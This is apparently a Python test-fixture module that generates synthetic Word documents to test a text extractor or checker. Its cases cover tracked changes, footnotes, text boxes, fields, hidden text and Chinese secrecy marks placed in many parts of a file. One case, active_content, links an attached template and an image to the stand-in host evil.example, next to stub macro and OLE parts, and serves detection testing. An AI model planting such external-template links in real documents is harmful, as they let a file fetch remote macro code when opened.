#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Changes, notes, boxes, fields and what else stands in a text; the secrecy marks."""

from docx_parts import (
    OUTLINE,
    CORE,
    HEAD,
    NAMESPACES,
    OFFICE,
    TEXT,
    TITLE,
    WORD_TYPE,
    case,
    cell,
    document,
    field,
    numbered,
    numbering,
    p,
    pack,
    parts,
    r,
    row,
    style,
    t,
    table,
)

# --- changes ---------------------------------------------------------------------------


@case
def tracked_changes():
    who = 'w:id="1" w:author="钱禾" w:date="2026-01-01T00:00:00Z"'
    return parts(
        TITLE
        + p(
            r("补助标准为每台")
            + f"<w:del {who}><w:r><w:delText>二十五万元</w:delText></w:r></w:del>"
            + f"<w:ins {who}>{r('二十万元')}</w:ins>"
            + r("。")
        )
        + p(r("前半句，"), f"<w:rPr><w:del {who}/></w:rPr>")
        + p(r("后半句。"), f"<w:rPr><w:ins {who}/></w:rPr><w:pPrChange {who}><w:pPr>{style('1')}</w:pPr></w:pPrChange>")
        + p(f"<w:moveFrom {who}>{r('搬走的一句。')}</w:moveFrom>" + r("留下的一句。"))
        + p(f"<w:moveTo {who}>{r('搬走的一句。')}</w:moveTo>")
        + p(r("加粗", f"<w:b/><w:rPrChange {who}><w:rPr><w:vanish/></w:rPr></w:rPrChange>"))
        + table(row(cell("删去的行"), properties=f"<w:del {who}/>"), row(cell("留下的行")))
    )


@case
def deleted_numbers():
    who = 'w:id="1" w:author="钱禾"'
    return parts(
        TITLE
        + p("甲", numbered(1))
        + p(
            f"<w:del {who}><w:r><w:delText>乙</w:delText></w:r></w:del>",
            numbered(1) + f"<w:rPr><w:del {who}/></w:rPr>",
        )
        + p("丙", numbered(1)),
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


def comments(text):
    return (
        f'{HEAD}<w:comments {NAMESPACES}><w:comment w:id="0" w:author="孙序">{p(text)}</w:comment>'
        f'<w:comment w:id="1" w:author="孙序">{p("再核。")}</w:comment></w:comments>'
    )


@case
def comments_and_headers():
    made = {
        "comments.xml": comments("请核对数字。"),
        "header1.xml": f"{HEAD}<w:hdr {NAMESPACES}>{p('内部讨论稿')}</w:hdr>",
        "footer1.xml": f"{HEAD}<w:ftr {NAMESPACES}>{p('')}</w:ftr>",
    }
    text = (
        '<w:commentRangeStart w:id="0"/>'
        + r("为了方便群众。")
        + '<w:commentRangeEnd w:id="0"/>'
        + r('<w:commentReference w:id="0"/>')
    )
    return parts(TITLE + p(text), made)


def notes(kind, *texts):
    body = f'<w:{kind} w:type="separator" w:id="-1">{p(r("<w:separator/>"))}</w:{kind}>'
    for i, text in enumerate(texts):
        body += f'<w:{kind} w:id="{i + 1}">{p(r(f"<w:{kind}Ref/>") + r(text))}</w:{kind}>'
    return f"{HEAD}<w:{kind}s {NAMESPACES}>{body}</w:{kind}s>"


@case
def footnotes():
    return parts(
        TITLE
        + p(
            r("住宅")
            + r('<w:footnoteReference w:id="2"/>')
            + r("加装电梯")
            + r('<w:endnoteReference w:id="1"/>')
            + r("，按本办法补助。")
        )
        + p(r("再说一句。") + r('<w:footnoteReference w:id="1"/>') + r('<w:footnoteReference w:id="99"/>')),
        {
            "footnotes.xml": notes("footnote", "指四层以上。", "指2000年以前建成的住宅。"),
            "endnotes.xml": notes("endnote", "见技术规程。"),
        },
    )


# --- text boxes, drawings --------------------------------------------------------------


def drawing(content, descr=""):
    return (
        f'<w:drawing><wp:inline><wp:docPr id="1" name="x" descr="{descr}"/><a:graphic>'
        f"<a:graphicData>{content}</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


def text_box(text):
    box = f"<w:txbxContent>{p(text)}</w:txbxContent>"
    return (
        '<mc:AlternateContent><mc:Choice Requires="wps">'
        + drawing(f"<wps:wsp><wps:txbx>{box}</wps:txbx></wps:wsp>")
        + "</mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox>"
        + box
        + "</v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent>"
    )


PICTURE = drawing('<pic:pic><pic:blipFill><a:blip r:embed="rId9"/></pic:blipFill></pic:pic>', "示意图")


@case
def text_boxes():
    return parts(
        TITLE
        + p(r("盒前，") + r(text_box("盒中的话。")) + r("盒后。"))
        + p(r("<w:pict><v:shape><v:textbox><w:txbxContent>" + p("老式盒子。") + "</w:txbxContent></v:textbox></v:shape></w:pict>"))
        + p(r('<w:pict><v:shape><v:textpath string="艺术字"/></v:shape></w:pict>'))
        + TEXT
    )


@case
def pictures():
    line = drawing("<wps:wsp><wps:spPr/></wps:wsp>")
    chart = drawing('<c:chart r:id="rId5"/>')
    made = parts(
        TITLE
        + p(r(PICTURE))
        + p(r("<w:pict><v:shape><v:imagedata/></v:shape></w:pict>") + r("图后的字。"))
        + p(r(line) + r(chart))
        + p("<m:oMath><m:f><m:num><m:r><m:t>甲</m:t></m:r></m:num><m:den><m:r><m:t>乙</m:t></m:r></m:den></m:f></m:oMath>")
        + TEXT
    )
    made["word/media/image1.png"] = "not a picture, and never looked at"
    return made


@case
def fields():
    number = '<w:fldSimple w:instr=" PAGE "><w:r><w:t>3</w:t></w:r></w:fldSimple>'
    box = (
        r('<w:fldChar w:fldCharType="begin"><w:ffData><w:checkBox><w:default w:val="0"/><w:checked/>'
          "</w:checkBox></w:ffData></w:fldChar>")
        + r("<w:instrText> FORMCHECKBOX </w:instrText>")
        + r('<w:fldChar w:fldCharType="end"/>')
    )
    return parts(
        TITLE
        + p(
            r("页")
            + number
            + r("，见")
            + field("REF _Ref1 \\h", r("第三条"))
            + r("，网址")
            + field('HYPERLINK "http://www.example/"', r("示例网"))
            + r("，同意")
            + box
            + r("。")
        )
        + p('<w:hyperlink r:id="rId20">' + r("链接的字") + "</w:hyperlink>" + field("EQ \\o(甲,乙)", ""))
        + p(field("IF " + field("PAGE", r("7")) + r("<w:instrText>=1</w:instrText>"), r("结果")))
        + TEXT
    )


@case
def contents_table():
    begin = r('<w:fldChar w:fldCharType="begin"/>') + r("<w:instrText> TOC \\o </w:instrText>")
    begin += r('<w:fldChar w:fldCharType="separate"/>')
    return parts(
        TITLE
        + p(begin + r("目录甲\t1"), numbered(1))
        + p("目录乙 2", numbered(1))
        + p(r('<w:fldChar w:fldCharType="end"/>'))
        + p("目录丙 3", style("toc1"))
        + '<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Table of Contents"/></w:docPartObj>'
        "</w:sdtPr><w:sdtContent>" + p("目录丁 4") + "</w:sdtContent></w:sdt>"
        + p("总则", numbered(1))
        + TEXT,
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


@case
def controls():
    return parts(
        TITLE
        + "<w:sdt><w:sdtPr><w:alias w:val=\"正文\"/></w:sdtPr><w:sdtContent>" + p("控件里的字。") + "</w:sdtContent></w:sdt>"
        + p(r("填：") + "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>" + r("单击此处输入文字") + "</w:sdtContent></w:sdt>")
        + TEXT
    )


@case
def small_things():
    return parts(
        TITLE
        + p(
            r("甲<w:tab/>".replace("甲", t("甲")) + t("乙"))
            + r("<w:noBreakHyphen/><w:softHyphen/>")
            + r("丙\u00ad\u200b丁")
            + r('<w:sym w:font="Wingdings" w:char="F0FE"/>')
            + r('<w:sym w:font="Webdings" w:char="F061"/>')
            + r("<w:lastRenderedPageBreak/><w:br w:type=\"page\"/>")
            + r("<w:t>\n 戊 </w:t>")
            + r("己\uf0a8庚\uf123"),
            '<w:tabs><w:tab w:val="left" w:pos="100"/></w:tabs>',
        )
        + p(r("上行") + r("<w:br/>") + r("下行"))
        + p(r("<w:ruby><w:rubyPr/><w:rt>" + r("shì") + "</w:rt><w:rubyBase>" + r("示") + "</w:rubyBase></w:ruby>") + r("例"))
        + TEXT
        + p("                        2026年7月4日")
    )


RAISED = '<w:vertAlign w:val="superscript"/>'


@case
def raised_and_struck():
    return parts(
        TITLE
        + p(r("面积120万m") + r("2", RAISED) + r("，用水量按10") + r("12", RAISED) + r("计，CO")
            + r("2", '<w:vertAlign w:val="subscript"/>') + r("减排，见注") + r("甲", RAISED)
            + r("，第3", '<w:vertAlign w:val="baseline"/>') + r("条。"))
        + p(r("补助") + r("五百", "<w:strike/>") + r("六百元，") + r("另有", '<w:strike w:val="0"/>')
            + r("规定的", "<w:dstrike/>") + r("除外。"))
        + TEXT
    )


@case
def hidden_text():
    return parts(
        TITLE
        + p(r("看得见") + r("看不见甲", "<w:vanish/>") + r("看不见乙", '<w:rStyle w:val="unseen"/>')
            + r("又看得见", '<w:rStyle w:val="unseen"/><w:vanish w:val="0"/>') + r("。"))
        + p(r("全看不见", "<w:vanish/>"), numbered(1))
        + p("有号", numbered(1)),
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


@case
def active_content():
    outside = 'TargetMode="External"'
    made = parts(
        TITLE
        + TEXT
        + p(r('<w:object><v:shape><v:imagedata/></v:shape><o:OLEObject Type="Embed"/></w:object>'))
        + '<w:altChunk r:id="rId31"/>',
        {
            "settings.xml": f"{HEAD}<w:settings {NAMESPACES}><w:attachedTemplate r:id=\"rId1\"/></w:settings>",
            "word/_rels/settings.xml.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/relationships/'
            f'attachedTemplate" Target="http://evil.example/t.dotm" {outside}/></Relationships>',
        },
        relations=f'<Relationship Id="rId30" Type="{OFFICE}/relationships/image" '
        f'Target="http://evil.example/a.png" {outside}/>'
        f'<Relationship Id="rId32" Type="{OFFICE}/relationships/hyperlink" '
        f'Target="http://www.example/" {outside}/>',
    )
    made["word/vbaProject.bin"] = "macro"
    made["word/embeddings/oleObject1.bin"] = "object"
    made["word/embeddings/inner.docx"] = pack({"[Content_Types].xml": "x"})
    made["[Content_Types].xml"] = made["[Content_Types].xml"].replace(
        f"{WORD_TYPE}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return made


# --- secrecy marks ---------------------------------------------------------------------

MARK = "机密★5年"


@case
def secret_body():
    return parts(p(MARK) + TITLE + TEXT)


@case
def secret_header():
    return parts(TITLE + TEXT, {"header1.xml": f"{HEAD}<w:hdr {NAMESPACES}>{p(r('机密') + r('★5年'))}</w:hdr>"})


@case
def secret_comment():
    return parts(TITLE + TEXT, {"comments.xml": comments(MARK)})


@case
def secret_text_box():
    return parts(TITLE + p(r(text_box(MARK))) + TEXT)


@case
def secret_fallback():
    return parts(TITLE + p(r(text_box("盒子").replace("盒子", MARK).replace(MARK, "盒子", 1))) + TEXT)


@case
def secret_deletion():
    return parts(TITLE + TEXT + p(f'<w:del w:id="1"><w:r><w:delText>{MARK}</w:delText></w:r></w:del>'))


@case
def secret_hidden():
    return parts(TITLE + TEXT + p(r(MARK, "<w:vanish/>")))


@case
def secret_property():
    return parts(TITLE + TEXT, {"docProps/core.xml": CORE % MARK})


@case
def secret_watermark():
    shape = f'<w:pict><v:shape><v:textpath string="{MARK}"/></v:shape></w:pict>'
    return parts(TITLE + TEXT, {"header1.xml": f"{HEAD}<w:hdr {NAMESPACES}>{p(r(shape))}</w:hdr>"})


@case
def secret_cell():
    return parts(TITLE + table(row(cell("密级"), cell(MARK))) + TEXT)


@case
def secret_note():
    return parts(TITLE + TEXT, {"footnotes.xml": notes("footnote", MARK)})
